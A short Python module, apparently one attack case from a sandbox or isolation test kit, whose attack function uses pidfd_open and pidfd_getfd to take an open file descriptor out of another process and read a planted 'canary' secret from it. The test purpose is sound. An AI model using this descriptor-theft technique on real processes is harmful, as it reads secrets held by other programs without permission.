"""Takes an open descriptor out of another process."""

import os

from kit import syscall

KIND = "secret"


def attack(canary):
    pidfd = syscall("pidfd_open", canary["process"], 0)
    fd = syscall("pidfd_getfd", pidfd, canary["open_fd"], 0)
    return os.pread(fd, 4096, 0).decode()
